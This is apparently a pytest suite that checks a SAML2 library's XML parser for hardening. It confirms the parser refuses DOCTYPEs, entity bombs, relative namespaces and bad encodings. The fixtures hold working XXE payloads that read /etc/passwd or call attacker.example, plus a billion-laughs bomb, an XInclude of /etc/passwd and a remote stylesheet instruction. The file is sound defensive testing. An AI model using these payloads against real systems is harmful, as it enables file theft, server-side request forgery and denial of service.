"""Entity tricks, DTDs, void canonicalization, hostile sizes and encodings.

SECURITY.md pipeline steps 1-3: size first, strict decoding, one hardened
lxml parse that refuses any DOCTYPE, relative namespace URIs, non-UTF-8 input
and more than one root. Every payload wraps a validly signed assertion, so a
parser that let it through would hand a verifiable document to the next step.
"""

from __future__ import annotations

import time

import pytest
from lxml import etree

from authlib_saml2_grant.testing import encode_assertion
from authlib_saml2_grant.xml import SAML_NS

from ..conftest import request_token
from ..conftest import unsigned_tree
from ..helpers import assert_accepted
from ..helpers import assert_rejected
from ..helpers import mint_tree
from ..helpers import one
from ..helpers import saml
from ..helpers import send

ROOT = "saml:Assertion"

DOCTYPES = {
    "xxe_file": f'<!DOCTYPE {ROOT} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    "xxe_http": f'<!DOCTYPE {ROOT} [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>',
    "parameter_entity": (
        f'<!DOCTYPE {ROOT} [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'
    ),
    "billion_laughs": (
        f"<!DOCTYPE {ROOT} ["
        '<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
        + "]>"
    ),
    "quadratic_blowup": f'<!DOCTYPE {ROOT} [<!ENTITY a "{"x" * 20000}">]>',
    "external_dtd": f'<!DOCTYPE {ROOT} SYSTEM "http://attacker.example/saml.dtd">',
    "public_dtd": f'<!DOCTYPE {ROOT} PUBLIC "-//X//Y" "file:///etc/saml.dtd">',
    "empty_doctype": f"<!DOCTYPE {ROOT}>",
    "attlist_default_id": (
        f"<!DOCTYPE {ROOT} [<!ATTLIST saml:Subject ID ID #IMPLIED>"
        '<!ATTLIST saml:NameID Format CDATA "urn:evil">]>'
    ),
}


@pytest.mark.parametrize("name", sorted(DOCTYPES))
def test_doctype_refused(client, idp, reasons, name):
    """Any DOCTYPE is refused: XXE, entity bombs, external DTD, ATTLIST defaults
    (SECURITY.md step 3). The signed body after it is valid, so nothing else fails."""
    signed = etree.tostring(mint_tree(idp))
    xml = b'<?xml version="1.0" encoding="UTF-8"?>\n' + DOCTYPES[name].encode() + b"\n" + signed
    started = time.monotonic()
    assert_rejected(*send(client, xml), reasons, "doctype_forbidden")
    assert time.monotonic() - started < 2


def test_entity_reference_in_signed_nameid_never_expanded(client, idp, reasons):
    """An entity reference placed in the NameID (with a DOCTYPE that defines it)
    is refused before expansion could change the subject."""
    signed = etree.tostring(mint_tree(idp)).replace(
        b"alice@example.com</saml:NameID>", b"&xxe;</saml:NameID>"
    )
    xml = DOCTYPES["xxe_file"].encode() + signed
    assert_rejected(*send(client, xml), reasons, "doctype_forbidden")


def test_undefined_entity_without_doctype(client, idp, reasons):
    """An undeclared entity reference is malformed XML, not an empty string."""
    signed = etree.tostring(mint_tree(idp)).replace(b"alice@example.com", b"&xxe;")
    assert_rejected(*send(client, signed), reasons, "xml_malformed")


def test_xinclude_never_processed(client, idp, accepted):
    """An IdP-signed xi:include stays an inert element: XInclude never runs
    (SECURITY.md step 3), so the attribute value holds no file content."""
    tree = unsigned_tree(idp, attributes={"groups": "placeholder"})
    value = one(tree, "saml:AttributeStatement/saml:Attribute/saml:AttributeValue")
    value.text = None
    include = etree.SubElement(
        value, "{http://www.w3.org/2001/XInclude}include", href="file:///etc/passwd", parse="text"
    )
    include.tail = ""
    xml = idp.sign(tree)
    verified = assert_accepted(*send(client, xml), accepted)
    assert "root:" not in "".join(verified.attributes["groups"])


def test_xslt_processing_instruction_inert(client, idp, accepted):
    """An ``xml-stylesheet`` PI before the root is never applied."""
    signed = etree.tostring(mint_tree(idp))
    xml = b'<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>' + signed
    assert_accepted(*send(client, xml), accepted)


@pytest.mark.parametrize(
    "uri", ["relative", "evil/ns", "../x", "#frag", "urn"], ids=lambda u: repr(u)
)
def test_void_canonicalization_relative_namespace(client, idp, reasons, uri):
    """A relative namespace URI voids libxml2's canonicalization (SECURITY.md step 3
    and "void canonicalization"): refused even when the IdP signed it."""
    try:
        tree = unsigned_tree(idp)
        etree.SubElement(one(tree, "saml:Subject"), f"{{{uri}}}Extra").text = "x"
        xml = idp.sign(tree)
    except (ValueError, etree.C14NError):  # refused by lxml or the signer: forge it
        xml = etree.tostring(mint_tree(idp)).replace(
            b"<saml:Subject>", f'<saml:Subject xmlns:v="{uri}">'.encode()
        )
    assert_rejected(*send(client, xml), reasons, "namespace_invalid")


def test_relative_namespace_declared_on_root(client, idp, reasons):
    """Unused relative declarations on the root are refused too."""
    xml = etree.tostring(mint_tree(idp)).replace(
        b"<saml:Assertion ", b'<saml:Assertion xmlns:v="rel" ', 1
    )
    assert_rejected(*send(client, xml), reasons, "namespace_invalid")


def test_encrypted_assertion_root(client, idp, reasons):
    """EncryptedAssertion is refused until decryption is built (SECURITY.md)."""
    root = etree.Element(saml("EncryptedAssertion"), nsmap={"saml": SAML_NS})
    data = etree.SubElement(
        root, "{http://www.w3.org/2001/04/xmlenc#}EncryptedData", Type="Element"
    )
    etree.SubElement(data, "{http://www.w3.org/2001/04/xmlenc#}CipherData").text = "AAAA"
    assert_rejected(*send(client, root), reasons, "encrypted_assertion_unsupported")


# -- sizes, shapes, encodings ------------------------------------------------------


def test_oversized_signed_assertion(client, idp, reasons):
    """A validly signed but huge assertion (many attributes) is refused by size."""
    xml = etree.tostring(mint_tree(idp, attributes={f"a{i}": "v" * 200 for i in range(600)}))
    assert len(encode_assertion(xml)) > 131_072
    assert_rejected(*send(client, xml), reasons, "assertion_too_large")


@pytest.mark.parametrize("depth", [300, 5000])
def test_deeply_nested(client, idp, reasons, depth):
    """Deep nesting inside the signed tree stops at libxml2's depth limit
    (huge_tree=False), before any recursion in c14n or XPath."""
    signed = etree.tostring(mint_tree(idp))
    xml = signed.replace(
        b"</saml:Subject>", b"<x>" * depth + b"</x>" * depth + b"</saml:Subject>", 1
    )
    assert_rejected(*send(client, xml), reasons, "xml_malformed")


def test_deep_but_legal_nesting_breaks_signature_only(client, idp, reasons):
    """Moderate nesting parses; unsigned, it then fails the digest."""
    signed = etree.tostring(mint_tree(idp))
    xml = signed.replace(b"</saml:Subject>", b"<x>" * 100 + b"</x>" * 100 + b"</saml:Subject>")
    assert_rejected(*send(client, xml), reasons, "signature_invalid")


@pytest.mark.parametrize(
    "suffix",
    [b"<saml:Assertion/>", b"<x/>", b"trailing text", b"<!-- -->\x00"],
    ids=["second-assertion", "second-root", "text", "nul"],
)
def test_multi_root_or_trailing_content(client, idp, reasons, suffix):
    """One document, one root (SECURITY.md step 3)."""
    xml = etree.tostring(mint_tree(idp)) + suffix
    assert_rejected(*send(client, xml), reasons, "xml_malformed")


@pytest.mark.parametrize(
    "data",
    [b"hello", b"{}", b'{"alg":"none"}', b"<", b"<a", b"\x00\x01\x02", b"\xef\xbb\xbf"],
    ids=["text", "json", "jwt-ish", "lt", "open", "binary", "bom-only"],
)
def test_non_xml(client, reasons, data):
    """Non-XML bytes are malformed XML, never a crash."""
    assert_rejected(*request_token(client, encode_assertion(data)), reasons, "xml_malformed")


def test_not_an_assertion_root(client, reasons):
    """Well-formed XML that is not a SAML Assertion."""
    xml = b'<Assertion xmlns="urn:oasis:names:tc:SAML:1.0:assertion" ID="_a" Version="2.0"/>'
    assert_rejected(*request_token(client, encode_assertion(xml)), reasons, "not_an_assertion")


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_utf16_and_utf32_refused(client, idp, reasons, codec):
    """UTF-8 only: a re-encoded signed assertion is refused at the parser."""
    text = etree.tostring(mint_tree(idp)).decode()
    declared = codec.upper().replace("-LE", "").replace("-BE", "")
    xml = f'<?xml version="1.0" encoding="{declared}"?>{text}'.encode(codec)
    assert_rejected(*send(client, xml), reasons, "xml_malformed")


@pytest.mark.parametrize("declared", ["ISO-8859-1", "US-ASCII", "windows-1252", "UTF-7"])
def test_non_utf8_declaration_refused(client, idp, reasons, declared):
    """A declared encoding other than UTF-8 is refused even for ASCII bytes."""
    xml = f'<?xml version="1.0" encoding="{declared}"?>'.encode() + etree.tostring(mint_tree(idp))
    assert_rejected(*send(client, xml), reasons, "xml_malformed")


def test_invalid_utf8_bytes(client, idp, reasons):
    """Latin-1 bytes in a UTF-8 document (a wrongly encoded NameID) are refused."""
    xml = etree.tostring(mint_tree(idp)).replace(b"alice@", "alicé@".encode("latin-1"))
    assert_rejected(*send(client, xml), reasons, "xml_malformed")


def test_utf8_bom_is_fine(client, idp, accepted):
    """A UTF-8 byte order mark is legal UTF-8 XML."""
    xml = b"\xef\xbb\xbf" + etree.tostring(mint_tree(idp))
    assert_accepted(*send(client, xml), accepted)


@pytest.mark.parametrize("declaration", [b"", b'<?xml version="1.0" encoding="utf-8"?>\n'])
def test_non_ascii_utf8_content_survives(client, idp, accepted, declaration):
    """The parser decodes UTF-8 whatever is declared: real names in attributes
    (and UTF-8 bytes rather than character references) verify and read back intact."""
    names = {"displayName": "Zoë Ærøskøbing 日本語 \U0001f600", "city": "Zürich"}
    tree = unsigned_tree(idp, attributes=names)
    xml = declaration + etree.tostring(etree.fromstring(idp.sign(tree)), encoding="utf-8")
    assert "Zürich".encode() in xml
    verified = assert_accepted(*send(client, xml), accepted)
    assert verified.attributes["displayName"] == (names["displayName"],)
    assert verified.attributes["city"] == ("Zürich",)
